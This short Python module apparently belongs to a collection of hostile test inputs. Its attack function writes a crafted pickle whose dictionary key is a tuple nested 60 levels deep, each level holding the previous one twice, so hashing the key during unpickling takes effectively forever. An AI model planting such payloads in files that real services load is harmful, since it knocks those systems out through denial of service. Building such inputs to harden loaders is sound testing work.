"""A key that holds itself twice, 60 times over: its hash takes years."""

from pathlib import Path

MESSAGE = r"keys are not text"


def attack(path: Path) -> None:
    doubled = b"".join(b"q" + bytes([n]) + b"h" + bytes([n]) + b"\x86" for n in range(60))
    path.write_bytes(b"\x80\x02})" + doubled + b"Ns.")
